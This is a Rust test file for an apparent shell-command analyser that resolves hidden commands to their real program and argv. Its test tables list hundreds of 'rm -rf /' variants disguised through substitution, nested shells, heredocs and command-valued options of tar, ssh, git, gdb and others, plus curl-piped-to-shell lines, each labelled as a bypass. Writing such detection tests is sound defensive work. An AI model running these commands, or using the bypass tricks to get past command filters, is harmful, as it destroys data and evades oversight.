//! The front end's contract, table-driven: for every known way of hiding a command,
//! analysis yields a unit with the real program and argv, with a span into the original input;
//! what cannot be seen through is flagged.
//!
//! Each table collects every mismatch before failing, so one run shows all regressions. Rows that
//! pin a bypass name it (`// bypass: …`).

use shclass::Limits;
use shclass::{Analysis, Context, FlagKind, Unit, analyze};

fn run(cmd: &str) -> Analysis {
    analyze(cmd, &Limits::default())
}

fn argv(u: &Unit) -> Vec<Option<&str>> {
    u.argv.iter().map(|a| a.value.as_deref()).collect()
}

fn text(input: &str, span: shclass::Span) -> &str {
    input
        .get(span.start..span.end)
        .unwrap_or("<span outside the input>")
}

/// A one-line picture of what was found, for failure messages.
fn summary(a: &Analysis) -> String {
    let mut s = String::new();
    for u in &a.units {
        s.push_str(&format!(
            "\n    unit {:?} {:?} span {:?} via {:?} context {:?}",
            u.program,
            argv(u),
            text(&a.input, u.span),
            u.via,
            u.context
        ));
    }
    for f in &a.flags {
        s.push_str(&format!(
            "\n    flag {} {:?} {}",
            f.kind.name(),
            text(&a.input, f.span),
            f.detail
        ));
    }
    s
}

/// Fail with every message at once.
fn report(failures: &[String]) {
    assert!(
        failures.is_empty(),
        "{} failing case(s):\n{}",
        failures.len(),
        failures.join("\n")
    );
}

/// Every span of an analysis lies inside the input, on char boundaries.
fn span_problems(a: &Analysis) -> Vec<String> {
    let mut spans = Vec::new();
    for u in &a.units {
        spans.push(("unit", u.span));
        spans.extend(u.argv.iter().map(|w| ("argument", w.span)));
        spans.extend(u.assignments.iter().map(|x| ("assignment", x.span)));
        spans.extend(u.redirects.iter().map(|x| ("redirect", x.span)));
    }
    spans.extend(a.flags.iter().map(|f| ("flag", f.span)));
    spans
        .into_iter()
        .filter(|(_, s)| {
            s.start > s.end
                || s.end > a.input.len()
                || !a.input.is_char_boundary(s.start)
                || !a.input.is_char_boundary(s.end)
        })
        .map(|(what, s)| format!("{what} span {s:?} in {:?}", a.input))
        .collect()
}

const RM: [Option<&str>; 3] = [Some("rm"), Some("-rf"), Some("/")];

/// Program `rm`, argv `["rm", "-rf", "/"]` (the first word may be the path it was written as).
fn is_rm_rf_root(u: &Unit) -> bool {
    let args = argv(u);
    u.program.as_deref() == Some("rm")
        && args.len() == 3
        && (args[0] == Some("rm") || args[0] == u.path.as_deref())
        && args[1..] == RM[1..]
}

/// `(command, exact span text of the rm unit when it is pinned)`: each must yield a unit with
/// program `rm` and argv `["rm", "-rf", "/"]`.
const RM_RF_ROOT: &[(&str, Option<&str>)] = &[
    // bypass: chaining after a harmless command
    ("ls && rm -rf /", Some("rm -rf /")),
    ("true || rm -rf /", Some("rm -rf /")),
    ("ls; rm -rf /", Some("rm -rf /")),
    ("ls\nrm -rf /", Some("rm -rf /")),
    // bypass: command substitution inside double quotes
    ("echo \"$(rm -rf /)\"", Some("rm -rf /")),
    // bypass: prefix assignment, nohup, timeout with options, background
    ("FOO=1 nohup timeout -s KILL 5 rm -rf / &", Some("rm -rf /")),
    // bypass: sudo with a value option, then env -i
    ("sudo -u root env -i rm -rf /", Some("rm -rf /")),
    // bypass: code string given to bash -c
    ("bash -c 'ls; rm -rf /'", Some("rm -rf /")),
    // bypass: empty quotes inside the program name
    ("r''m -rf /", Some("r''m -rf /")),
    // bypass: backslash before the program name (alias suppression)
    ("\\rm -rf /", Some("\\rm -rf /")),
    // bypass: ANSI-C hex escape spelling the program name
    ("$'\\x72m' -rf /", Some("$'\\x72m' -rf /")),
    // bypass: quoted heredoc piped to bash
    ("cat <<'EOF' | bash\nrm -rf /\nEOF", Some("rm -rf /")),
    // bypass: find -exec payload
    ("find . -exec rm -rf / \\;", Some("rm -rf /")),
    // bypass: an option whose value is a command line the program runs
    ("tar -I 'rm -rf /' -cf a.tar src", Some("rm -rf /")),
    ("tar -cf a.tar -I'rm -rf /' src", Some("rm -rf /")),
    (
        "tar --use-compress-program='rm -rf /' -cf a.tar src",
        Some("rm -rf /"),
    ),
    ("tar --use-comp='rm -rf /' -cf a.tar src", Some("rm -rf /")),
    ("tar -xf a.tar --to-command 'rm -rf /'", Some("rm -rf /")),
    (
        "tar -cf a.tar src --checkpoint=1 --checkpoint-action=exec='rm -rf /'",
        Some("rm -rf /"),
    ),
    ("tar -cf a.tar -F 'rm -rf /' src", Some("rm -rf /")),
    ("zip -T -TT 'rm -rf /' z.zip src", Some("rm -rf /")),
    (
        "zip -T --unzip-command='rm -rf /' z.zip src",
        Some("rm -rf /"),
    ),
    ("ssh -o ProxyCommand='rm -rf /' host", Some("rm -rf /")),
    ("ssh -o 'proxycommand rm -rf /' host", Some("rm -rf /")),
    (
        "ssh -oLocalCommand='rm -rf /' -o PermitLocalCommand=yes host",
        Some("rm -rf /"),
    ),
    ("sudo tar -I 'rm -rf /' -cf a.tar src", Some("rm -rf /")),
    ("compgen -C 'rm -rf /' x", Some("rm -rf /")),
    ("logsave -a /tmp/log rm -rf /", Some("rm -rf /")),
    // bypass: sed's e command runs a shell command
    ("sed -n '1e rm -rf /' notes.txt", None),
    ("sed -e 's/a/b/' -e '$e rm -rf /' notes.txt", None),
    // bypass: git's ext:: transport runs a command
    ("git clone 'ext::rm -rf /' x", None),
    (
        "git -c protocol.ext.allow=always fetch 'ext::sh -c rm% -rf% /'",
        None,
    ),
    // bypass: a function exported in the environment shadows the program a child bash calls
    ("env 'BASH_FUNC_ls%%=() { rm -rf /; }' bash -c ls", None),
    (
        "env A=1 'BASH_FUNC_git%%=() { rm -rf /; }' sh -c 'git status'",
        None,
    ),
    // bypass: brace expansion in command position (an ERROR tree)
    ("{rm,-rf,/}", Some("{rm,-rf,/}")),
    // bypass: piped into sh -c with && inside double quotes
    ("ls | sh -c \"cd /tmp && rm -rf /\"", Some("rm -rf /")),
    // bypass: subshell inside an if body
    ("if true; then (rm -rf /); fi", Some("rm -rf /")),
    // bypass: function body
    ("f() { rm -rf /; }; f", Some("rm -rf /")),
    // bypass: process substitution
    ("cat <(rm -rf /)", Some("rm -rf /")),
    // Substitutions wherever a word can be.
    ("echo $(rm -rf /) x", Some("rm -rf /")),
    ("echo `rm -rf /`", Some("rm -rf /")),
    ("echo \"`rm -rf /`\"", Some("rm -rf /")),
    // bypass: substitution in a prefix assignment
    ("X=$(rm -rf /) ls", Some("rm -rf /")),
    // bypass: substitution in a bare assignment
    ("X=$(rm -rf /)", Some("rm -rf /")),
    ("export X=$(rm -rf /)", Some("rm -rf /")),
    ("local x=\"$(rm -rf /)\"", Some("rm -rf /")),
    ("readonly x=`rm -rf /`", Some("rm -rf /")),
    // bypass: substitution in a redirect target
    ("echo hi > \"$(rm -rf /)\"", Some("rm -rf /")),
    ("cat < $(rm -rf /)", Some("rm -rf /")),
    ("ls 2>> `rm -rf /`", Some("rm -rf /")),
    // bypass: process substitution as a redirect source
    ("cat < <(rm -rf /)", Some("rm -rf /")),
    ("ls > >(rm -rf /)", Some("rm -rf /")),
    ("echo hi | tee >(rm -rf /)", Some("rm -rf /")),
    // bypass: unquoted heredoc body runs substitutions
    ("cat <<EOF\n$(rm -rf /)\nEOF", Some("rm -rf /")),
    ("cat <<EOF\n`rm -rf /`\nEOF", Some("rm -rf /")),
    ("cat <<-EOF\n\tx $(rm -rf /) y\n\tEOF", Some("rm -rf /")),
    // bypass: substitution in an array element
    ("arr=(a $(rm -rf /) b)", Some("rm -rf /")),
    ("declare -a arr=(\"$(rm -rf /)\")", Some("rm -rf /")),
    // bypass: substitution in an array subscript
    ("a[$(rm -rf /)]=1", Some("rm -rf /")),
    ("declare a[$(rm -rf /)]=1", Some("rm -rf /")),
    // bypass: substitution inside a parameter operator
    ("echo ${x:-$(rm -rf /)}", Some("rm -rf /")),
    ("echo \"${x:=$(rm -rf /)}\"", Some("rm -rf /")),
    ("echo ${x:+`rm -rf /`}", Some("rm -rf /")),
    ("echo ${x/a/$(rm -rf /)}", Some("rm -rf /")),
    // bypass: substitution in test commands and arithmetic
    ("[[ -n $(rm -rf /) ]]", Some("rm -rf /")),
    ("[[ $(rm -rf /) == x ]]", Some("rm -rf /")),
    ("[ \"$(rm -rf /)\" ]", Some("rm -rf /")),
    ("test -n \"$(rm -rf /)\"", Some("rm -rf /")),
    ("(( x = $(rm -rf /) ))", Some("rm -rf /")),
    ("echo $(( 1 + $(rm -rf /) ))", Some("rm -rf /")),
    ("echo $[ $(rm -rf /) ]", Some("rm -rf /")),
    // bypass: nested substitutions
    ("echo \"$(echo \"$(rm -rf /)\")\"", Some("rm -rf /")),
    ("a=$(b=$(rm -rf /))", Some("rm -rf /")),
    // Control flow.
    ("case $(rm -rf /) in *) ;; esac", Some("rm -rf /")),
    ("case x in x) rm -rf /;; esac", Some("rm -rf /")),
    ("case x in a|b) ls;; *) rm -rf /;; esac", Some("rm -rf /")),
    ("while rm -rf /; do :; done", Some("rm -rf /")),
    ("while :; do rm -rf /; done", Some("rm -rf /")),
    ("until rm -rf /; do :; done", Some("rm -rf /")),
    ("until false; do rm -rf /; done", Some("rm -rf /")),
    ("for i in $(rm -rf /); do :; done", Some("rm -rf /")),
    ("for i in a b; do rm -rf /; done", Some("rm -rf /")),
    ("select i in a b; do rm -rf /; done", Some("rm -rf /")),
    ("for ((i=0; i<1; i++)); do rm -rf /; done", Some("rm -rf /")),
    (
        "for ((i=$(rm -rf /); i<1; i++)); do :; done",
        Some("rm -rf /"),
    ),
    ("if rm -rf /; then :; fi", Some("rm -rf /")),
    (
        "if false; then :; elif rm -rf /; then :; fi",
        Some("rm -rf /"),
    ),
    ("if false; then :; else rm -rf /; fi", Some("rm -rf /")),
    ("{ rm -rf /; }", Some("rm -rf /")),
    ("{ ls; } && { rm -rf /; }", Some("rm -rf /")),
    ("(rm -rf /)", Some("rm -rf /")),
    ("( (rm -rf /) )", Some("rm -rf /")),
    ("! rm -rf /", Some("rm -rf /")),
    ("rm -rf / &", Some("rm -rf /")),
    ("ls | rm -rf /", Some("rm -rf /")),
    ("rm -rf / | cat", Some("rm -rf /")),
    ("ls |& rm -rf /", Some("rm -rf /")),
    ("function g { rm -rf /; }", Some("rm -rf /")),
    ("h() ( rm -rf / )", Some("rm -rf /")),
    ("h() { rm -rf /; } > /dev/null", Some("rm -rf /")),
    // bypass: coproc (tree-sitter-bash has no coproc)
    ("coproc rm -rf /", Some("rm -rf /")),
    ("coproc { rm -rf /; }", Some("rm -rf /")),
    ("coproc NAME { rm -rf /; }", Some("rm -rf /")),
    ("coproc ( rm -rf / )", Some("rm -rf /")),
    // Nested shells.
    ("bash -lc 'rm -rf /'", Some("rm -rf /")),
    ("bash -l -c 'rm -rf /'", Some("rm -rf /")),
    ("bash --norc --noprofile -c 'rm -rf /'", Some("rm -rf /")),
    ("bash -o pipefail -c 'rm -rf /'", Some("rm -rf /")),
    ("sh -c 'rm -rf /' argv0 a b", Some("rm -rf /")),
    ("zsh -c 'rm -rf /'", Some("rm -rf /")),
    ("dash -c \"rm -rf /\"", Some("rm -rf /")),
    ("/bin/bash -c 'rm -rf /'", Some("rm -rf /")),
    ("/usr/bin/env bash -c 'rm -rf /'", Some("rm -rf /")),
    // bypass: env before a shell
    ("env bash -c 'rm -rf /'", Some("rm -rf /")),
    // bypass: exec before a shell
    ("exec sh -c 'rm -rf /'", Some("rm -rf /")),
    ("sudo bash -c 'rm -rf /'", Some("rm -rf /")),
    ("timeout 5 bash -c 'rm -rf /'", Some("rm -rf /")),
    // bypass: a newline inside double-quoted code separates commands
    ("bash -c \"ls\nrm -rf /\"", Some("rm -rf /")),
    ("bash -c $'ls\\nrm -rf /'", Some("rm -rf /")),
    ("bash -c 'ls\nrm -rf /'", Some("rm -rf /")),
    // bypass: three levels of nested quoting
    (
        "bash -c \"bash -c 'bash -c \\\"rm -rf /\\\"'\"",
        Some("rm -rf /"),
    ),
    ("bash -c \"eval 'rm -rf /'\"", Some("rm -rf /")),
    ("eval \"bash -c 'rm -rf /'\"", Some("rm -rf /")),
    ("bash -c 'cat <<EOF | sh\nrm -rf /\nEOF'", Some("rm -rf /")),
    // bypass: eval with static words
    ("eval rm -rf /", Some("rm -rf /")),
    ("eval 'rm -rf /'", Some("rm -rf /")),
    ("eval \"rm -rf /\"", Some("rm -rf /")),
    // The last word maps to the `/` inside its quotes.
    ("eval rm '-rf' \"/\"", Some("rm '-rf' \"/")),
    ("eval {rm,-rf,/}", None),
    // bypass: trap runs its code string on a signal or at exit
    ("trap 'rm -rf /' EXIT", Some("rm -rf /")),
    ("trap -- \"rm -rf /\" INT TERM", Some("rm -rf /")),
    // bypass: here-string to a shell
    ("sh <<< \"rm -rf /\"", Some("rm -rf /")),
    ("bash <<< 'rm -rf /'", Some("rm -rf /")),
    ("sh -s <<< 'rm -rf /'", Some("rm -rf /")),
    // bypass: heredoc to a shell
    ("bash <<EOF\nrm -rf /\nEOF", Some("rm -rf /")),
    ("bash <<'EOF'\nrm -rf /\nEOF", Some("rm -rf /")),
    ("sh -s <<-EOF\n\trm -rf /\n\tEOF", Some("rm -rf /")),
    ("cat <<EOF | sh && ls\nrm -rf /\nEOF", Some("rm -rf /")),
    // bypass: an expansion elsewhere in a heredoc fed to a shell hid the whole body
    ("bash <<EOF\nrm -rf /\necho $HOME\nEOF", Some("rm -rf /")),
    ("cat <<EOF | sh\n$(date)\nrm -rf /\nEOF", Some("rm -rf /")),
    // bypass: static text piped into a shell
    ("echo 'rm -rf /' | sh", Some("rm -rf /")),
    ("echo rm -rf / | bash", Some("rm -rf /")),
    ("echo -n 'rm -rf /' | bash", Some("rm -rf /")),
    ("echo -e 'ls\\nrm -rf /' | sh", None),
    ("printf 'rm -rf /' | sh", None),
    ("printf '%s\\n' 'rm -rf /' | sh", Some("rm -rf /")),
    ("cat <<< 'rm -rf /' | sh", Some("rm -rf /")),
    // Programs that run other programs.
    ("find . -execdir rm -rf / \\;", Some("rm -rf /")),
    ("find . -ok rm -rf / \\;", Some("rm -rf /")),
    ("find . -okdir rm -rf / \\;", Some("rm -rf /")),
    (
        "find . -name x -exec ls {} \\; -exec rm -rf / \\;",
        Some("rm -rf /"),
    ),
    ("sudo find . -exec rm -rf / ';'", Some("rm -rf /")),
    ("watch rm -rf /", Some("rm -rf /")),
    ("watch -n 1 'rm -rf /'", Some("rm -rf /")),
    // bypass: watch -x placed before the command
    ("watch -x rm -rf /", Some("rm -rf /")),
    ("watch --interval 1 --exec rm -rf /", Some("rm -rf /")),
    ("xargs sh -c 'rm -rf /'", Some("rm -rf /")),
    ("ls | xargs -I{} bash -c 'rm -rf /'", Some("rm -rf /")),
    // bypass: git alias running a shell command
    ("git -c alias.x='!rm -rf /' x", Some("rm -rf /")),
    // bypass: git pager configuration
    ("git -c core.pager='rm -rf /' log", Some("rm -rf /")),
    ("git -c core.sshCommand='rm -rf /' fetch", Some("rm -rf /")),
    ("git -calias.x='!rm -rf /' x", Some("rm -rf /")),
    (
        "git -C repo -c core.editor='rm -rf /' commit",
        Some("rm -rf /"),
    ),
    // Wrappers (every wrapper and option is also generated below).
    ("command rm -rf /", Some("rm -rf /")),
    ("builtin command rm -rf /", Some("rm -rf /")),
    ("sudo -E -H -u root rm -rf /", Some("rm -rf /")),
    ("sudo --user=root -- rm -rf /", Some("rm -rf /")),
    ("env -u HOME A=1 rm -rf /", Some("rm -rf /")),
    ("env -S 'rm -rf /'", Some("rm -rf /")),
    ("su -c 'rm -rf /'", Some("rm -rf /")),
    ("su root -c 'rm -rf /'", Some("rm -rf /")),
    ("sudo su -c 'rm -rf /'", Some("rm -rf /")),
    // bypass: runuser in its su form (user operand, -c code)
    ("runuser -l root -c 'rm -rf /'", Some("rm -rf /")),
    ("runuser -u root -- rm -rf /", Some("rm -rf /")),
    ("script -q -c 'rm -rf /' /dev/null", Some("rm -rf /")),
    ("flock /tmp/l -c 'rm -rf /'", Some("rm -rf /")),
    (
        "nice -n 10 ionice -c 3 stdbuf -oL time -p rm -rf /",
        Some("rm -rf /"),
    ),
    ("nice -10 rm -rf /", Some("rm -rf /")),
    ("timeout --signal=KILL -k 1 5 rm -rf /", Some("rm -rf /")),
    ("nohup rm -rf / > /dev/null 2>&1 &", Some("rm -rf /")),
    ("time rm -rf /", Some("rm -rf /")),
    ("exec -a name rm -rf /", Some("rm -rf /")),
    // bypass: a redirect between the wrapper and the command
    ("sudo >/dev/null rm -rf /", Some("rm -rf /")),
    ("sudo 2>&1 rm -rf /", Some("rm -rf /")),
    ("rm > /dev/null -rf /", None),
    ("2>/dev/null rm -rf /", Some("rm -rf /")),
    // Path-qualified programs.
    // bypass: an absolute path to rm
    ("/bin/rm -rf /", Some("/bin/rm -rf /")),
    ("/usr/bin/rm -rf /", Some("/usr/bin/rm -rf /")),
    ("//bin/../bin/./rm -rf /", Some("//bin/../bin/./rm -rf /")),
    // Quoting and escapes.
    ("\"r\"m -rf /", Some("\"r\"m -rf /")),
    ("r\"\"m -rf /", Some("r\"\"m -rf /")),
    ("'rm' -rf /", Some("'rm' -rf /")),
    ("$\"rm\" -rf /", Some("$\"rm\" -rf /")),
    ("$'\\162\\155' -rf /", None),
    ("$'\\u0072m' -rf /", None),
    ("$'\\U00000072'm -rf /", None),
    ("rm \"-rf\" \"/\"", Some("rm \"-rf\" \"/\"")),
    ("rm -r''f '/'", Some("rm -r''f '/'")),
    ("rm -rf \\/", Some("rm -rf \\/")),
    ("{rm,-rf,\\/}", None),
    // bypass: line continuation inside the program name
    ("r\\\nm -rf /", Some("r\\\nm -rf /")),
    ("rm -r\\\nf /", Some("rm -r\\\nf /")),
    ("rm -rf \\\n/", Some("rm -rf \\\n/")),
    // Spacing, comments, terminators.
    ("  rm   -rf   /  ", Some("rm   -rf   /")),
    ("rm -rf / # comment", Some("rm -rf /")),
    ("rm -rf /;", Some("rm -rf /")),
    ("rm -rf /\n", Some("rm -rf /")),
    ("x=1 IFS=, rm -rf /", Some("rm -rf /")),
    // bypass: a command after a heredoc's redirect on the same line (ERROR tree, recovered)
    ("cat <<EOF > f; rm -rf /\nx\nEOF", Some("rm -rf /")),
    // Runners read with their tables: start-stop-daemon's program and operands (getopt
    // permutes: operands before `--` are arguments too), an abbreviation read as its option.
    ("start-stop-daemon --start --exec /bin/rm -- -rf /", None),
    ("start-stop-daemon -S -x/bin/rm -- -rf /", None),
    ("start-stop-daemon -S -q -x /bin/rm -- -rf /", None),
    ("start-stop-daemon --start --exe /bin/rm -- -rf /", None),
    (
        "start-stop-daemon --start -x /bin/true --startas=/bin/rm -- -rf /",
        None,
    ),
    // ed's file `!CMD`, after its options or `--`; make's command variables among its operands.
    ("ed -s '!rm -rf /'", None),
    ("ed -p '> ' -- '!rm -rf /'", None),
    ("make -j 4 CC='rm -rf /' all", None),
    // bypass: capsh's `-+` and `=+` run bash (capsh) like `--` (`==`), through cap_launch.
    ("capsh -+ -c 'rm -rf /'", None),
    ("capsh =+ -- -c 'rm -rf /'", None),
    // gdb read with its table as getopt_long_only reads it: one dash or two, `=VALUE`, an
    // abbreviation read as its option (bypass: `-eval-c`); `--args` ends the options.
    ("gdb -batch -eval-c 'shell rm -rf /' ./a.out", None),
    ("gdb --eval-comm='shell rm -rf /' ./a.out", None),
    ("gdb -ex='shell rm -rf /'", None),
    ("gdb -q ./a.out -iex '!rm -rf /'", None),
    ("gdb -nx --args /bin/rm -rf /", None),
    // sqlite3 read with its table: `-lookaside SIZE N` takes two words, one dash or two, the
    // options before `-A` (whose words are `.archive`'s) still run.
    ("sqlite3 -lookaside 64 8 app.db '.shell rm -rf /'", None),
    ("sqlite3 --pagecache 64 8 app.db '.system rm -rf /'", None),
    ("sqlite3 --cmd '.shell rm -rf /' app.db", None),
    ("sqlite3 -cmd '.shell rm -rf /' app.zip -A -t", None),
];

#[test]
fn rm_rf_root_is_always_a_unit() {
    let mut failures = Vec::new();
    for (cmd, span) in RM_RF_ROOT {
        let a = run(cmd);
        let found: Vec<&Unit> = a.units.iter().filter(|u| is_rm_rf_root(u)).collect();
        if found.is_empty() {
            failures.push(format!("{cmd:?}: no rm -rf / unit{}", summary(&a)));
            continue;
        }
        if let Some(want) = span
            && !found.iter().any(|u| text(cmd, u.span) == *want)
        {
            failures.push(format!(
                "{cmd:?}: span text {:?}, want {want:?}",
                found.iter().map(|u| text(cmd, u.span)).collect::<Vec<_>>()
            ));
        }
        failures.extend(span_problems(&a));
    }
    report(&failures);
}

/// `(command, program, argv)` for units other than `rm -rf /`; `None` in argv is a dynamic word.
type UnitCase = (
    &'static str,
    Option<&'static str>,
    &'static [Option<&'static str>],
);

const UNITS: &[UnitCase] = &[
    // a rustup proxy's `+CHANNEL` picks the toolchain: the command is read without it
    (
        "cargo +nightly fmt --check",
        Some("cargo"),
        &[Some("cargo"), Some("fmt"), Some("--check")],
    ),
    // a path is no channel: the word stays (`+/opt/tc` runs the programs there)
    (
        "cargo +/opt/tc fmt",
        Some("cargo"),
        &[Some("cargo"), Some("+/opt/tc"), Some("fmt")],
    ),
    (
        "rustup run 1.80 rm -rf /",
        Some("rm"),
        &[Some("rm"), Some("-rf"), Some("/")],
    ),
    // bypass: xargs reads the arguments of rm from its input
    (
        "echo / | xargs rm -rf",
        Some("rm"),
        &[Some("rm"), Some("-rf")],
    ),
    (
        "xargs -0 -n 1 rm -rf < list",
        Some("rm"),
        &[Some("rm"), Some("-rf")],
    ),
    (
        "find / -exec rm -rf {} +",
        Some("rm"),
        &[Some("rm"), Some("-rf"), Some("{}")],
    ),
    (
        "find / -execdir rm -rf {} +",
        Some("rm"),
        &[Some("rm"), Some("-rf"), Some("{}")],
    ),
    (
        "parallel rm -rf ::: /",
        Some("rm"),
        &[Some("rm"), Some("-rf")],
    ),
    // bypass: a variable as the program name
    ("x=rm; $x -rf /", None, &[None, Some("-rf"), Some("/")]),
    ("\"$CMD\" -rf /", None, &[None, Some("-rf"), Some("/")]),
    ("$(echo rm) -rf /", None, &[None, Some("-rf"), Some("/")]),
    // a query, which runs nothing: the program stays `command`
    (
        "command -v rm",
        Some("command"),
        &[Some("command"), Some("-v"), Some("rm")],
    ),
    (
        "command -V rm",
        Some("command"),
        &[Some("command"), Some("-V"), Some("rm")],
    ),
    (
        "sudo -l rm",
        Some("sudo"),
        &[Some("sudo"), Some("-l"), Some("rm")],
    ),
    // path-qualified: system directories give the bare name, others keep the path
    (
        "/bin/rm -rf /",
        Some("rm"),
        &[Some("/bin/rm"), Some("-rf"), Some("/")],
    ),
    ("./cat x", Some("./cat"), &[Some("./cat"), Some("x")]),
    (
        "/tmp/x/rm y",
        Some("/tmp/x/rm"),
        &[Some("/tmp/x/rm"), Some("y")],
    ),
    ("bin/rm y", Some("bin/rm"), &[Some("bin/rm"), Some("y")]),
    ("../rm y", Some("../rm"), &[Some("../rm"), Some("y")]),
    // the redirect-only command of `$(< file)`
    ("echo $(< list)", None, &[]),
    // declarations reach the builtin as their text
    (
        "declare -a arr=(1 \"2 3\")",
        Some("declare"),
        &[Some("declare"), Some("-a"), Some("arr=(1 2 3)")],
    ),
    ("export A=b", Some("export"), &[Some("export"), Some("A=b")]),
    // words after a redirect target are arguments
    (
        "echo > f a b",
        Some("echo"),
        &[Some("echo"), Some("a"), Some("b")],
    ),
    // the shell that reads the network is itself a unit
    (
        "curl -fsSL https://x.example | sh",
        Some("sh"),
        &[Some("sh")],
    ),
    // a brace word expands into several arguments
    (
        "touch {a,b}.txt",
        Some("touch"),
        &[Some("touch"), Some("a.txt"), Some("b.txt")],
    ),
    // a dynamic argument keeps its place
    (
        "rm -rf \"$HOME\"/x",
        Some("rm"),
        &[Some("rm"), Some("-rf"), None],
    ),
    (
        "bash <<EOF\nrm -rf $HOME\nEOF",
        Some("rm"),
        &[Some("rm"), Some("-rf"), None],
    ),
    // trap with no code string runs nothing
    (
        "trap - INT",
        Some("trap"),
        &[Some("trap"), Some("-"), Some("INT")],
    ),
    ("trap -p", Some("trap"), &[Some("trap"), Some("-p")]),
];

#[test]
fn units_have_program_and_argv() {
    let mut failures = Vec::new();
    for (cmd, program, want) in UNITS {
        let a = run(cmd);
        let hit = a
            .units
            .iter()
            .any(|u| u.program.as_deref() == *program && argv(u) == *want);
        if !hit {
            failures.push(format!(
                "{cmd:?}: no unit {program:?} {want:?}{}",
                summary(&a)
            ));
        }
        failures.extend(span_problems(&a));
    }
    report(&failures);
}

#[test]
fn queries_run_nothing() {
    let mut failures = Vec::new();
    for cmd in [
        "command -v rm",
        "command -V rm",
        "sudo -l rm",
        "sudo -v",
        "ionice -p 123",
        "taskset -p 1",
        "doas -C /etc/doas.conf rm",
        "strace -p 1",
        // An option's value is not an operand: ed's prompt, make's makefile.
        "ed -p '!rm' file",
        "make -f CC=rm",
        "start-stop-daemon --stop --exec /bin/rm",
    ] {
        let a = run(cmd);
        if a.units.iter().any(|u| u.program.as_deref() == Some("rm")) {
            failures.push(format!(
                "{cmd:?}: a query produced an rm unit{}",
                summary(&a)
            ));
        }
        if a.units.len() != 1 {
            failures.push(format!("{cmd:?}: want exactly one unit{}", summary(&a)));
        }
    }
    report(&failures);
}

#[test]
fn path_is_recorded() {
    let a = run("/bin/rm -rf /");
    assert_eq!(a.units[0].program.as_deref(), Some("rm"));
    assert_eq!(a.units[0].path.as_deref(), Some("/bin/rm"));
    let a = run("./cat x");
    assert_eq!(a.units[0].program.as_deref(), Some("./cat"));
    assert_eq!(a.units[0].path.as_deref(), Some("./cat"));
    let a = run("rm x");
    assert_eq!(a.units[0].path, None);
}

/// `(command, flag, exact span text of one such flag when pinned)`.
const FLAGS: &[(&str, FlagKind, Option<&str>)] = &[
    // a command-valued option whose value is known only at run time
    (
        "tar -I \"$X\" -cf a.tar src",
        FlagKind::DynamicCode,
        Some("\"$X\""),
    ),
    (
        "zip -T -TT \"$(cat cmd)\" z.zip src",
        FlagKind::DynamicCode,
        Some("\"$(cat cmd)\""),
    ),
    // an exported function whose text is not a function
    (
        "env 'BASH_FUNC_ls%%=x' bash -c ls",
        FlagKind::DynamicCode,
        Some("'BASH_FUNC_ls%%=x'"),
    ),
    // sed runs its pattern space as a command
    (
        "sed 's/.*/rm -rf \\//e' notes.txt",
        FlagKind::DynamicCode,
        None,
    ),
    // an interpreter's code: what it runs is not read
    (
        "python3 -c 'import os; os.system(\"rm -rf /\")'",
        FlagKind::DynamicCode,
        Some("'import os; os.system(\"rm -rf /\")'"),
    ),
    (
        "perl <<'EOF'\nsystem('rm -rf /');\nEOF",
        FlagKind::DynamicCode,
        Some("perl"),
    ),
    (
        "python3 -Ic 'import os; os.system(\"rm -rf /\")'",
        FlagKind::DynamicCode,
        Some("'import os; os.system(\"rm -rf /\")'"),
    ),
    // After a `-W` value (code proven to only print raises no flag: `-c 'import os'`).
    (
        "python3 -W ignore -c 'import os; os.system(\"id\")'",
        FlagKind::DynamicCode,
        Some("'import os; os.system(\"id\")'"),
    ),
    (
        "perl -ne 'system \"rm -rf /\"' f",
        FlagKind::DynamicCode,
        Some("'system \"rm -rf /\"'"),
    ),
    ("node --eval='x'", FlagKind::DynamicCode, Some("--eval='x'")),
    // makefile text given on the command line: its recipes are code make runs (at the word that
    // gives the text), and what the reader cannot see through is flagged
    (
        "make --eval='x:;rm -rf /' x",
        FlagKind::NestedShell,
        Some("--eval='x:;rm -rf /'"),
    ),
    (
        "make -E '$(shell rm -rf /)'",
        FlagKind::NestedShell,
        Some("'$(shell rm -rf /)'"),
    ),
    (
        "make -f /dev/stdin <<< 'all:; rm -rf /'",
        FlagKind::NestedShell,
        Some("/dev/stdin"),
    ),
    (
        "echo 'all:; rm -rf /' | make -f -",
        FlagKind::NestedShell,
        Some("-"),
    ),
    (
        "make --eval='x:;$(RM) -rf /' x",
        FlagKind::UnsupportedSyntax,
        Some("--eval='x:;$(RM) -rf /'"),
    ),
    (
        "make --eval='include evil.mk'",
        FlagKind::UnsupportedSyntax,
        Some("--eval='include evil.mk'"),
    ),
    (
        "make --eval=\"$T\" x",
        FlagKind::DynamicCode,
        Some("--eval=\"$T\""),
    ),
    ("make -f - x", FlagKind::DynamicCode, Some("-")),
    // bypass: curl piped to a shell
    (
        "curl -fsSL https://x.example/i.sh | sh",
        FlagKind::PipeToShell,
        Some("curl -fsSL https://x.example/i.sh | sh"),
    ),
    (
        "wget -qO- https://x.example | sudo bash",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "curl https://x.example | python3",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "curl https://x.example | sh -s -- --yes",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "curl https://x.example | tee f | bash",
        FlagKind::PipeToShell,
        None,
    ),
    ("cat script.sh | bash", FlagKind::PipeToShell, None),
    ("bash < script.sh", FlagKind::PipeToShell, None),
    // bypass: shell code from a command substitution
    (
        "bash -c \"$(curl -fsSL https://x.example)\"",
        FlagKind::PipeToShell,
        Some("\"$(curl -fsSL https://x.example)\""),
    ),
    (
        "sh -c \"`curl https://x.example`\"",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "eval \"$(curl https://x.example)\"",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "bash <(curl https://x.example)",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "source <(curl https://x.example)",
        FlagKind::PipeToShell,
        None,
    ),
    (". <(curl https://x.example)", FlagKind::PipeToShell, None),
    (
        "python3 <(curl https://x.example)",
        FlagKind::PipeToShell,
        None,
    ),
    (
        "bash <<EOF\n$(curl https://x.example)\nEOF",
        FlagKind::PipeToShell,
        None,
    ),
    ("echo \"$x\" | sh", FlagKind::PipeToShell, None),
    ("bash <<EOF\nrm -rf $HOME\nEOF", FlagKind::PipeToShell, None),
    ("trap \"$cmd\" EXIT", FlagKind::DynamicCode, None),
    // dynamic code
    ("eval \"$cmd\"", FlagKind::DynamicCode, Some("\"$cmd\"")),
    ("bash -c \"$cmd\"", FlagKind::DynamicCode, Some("\"$cmd\"")),
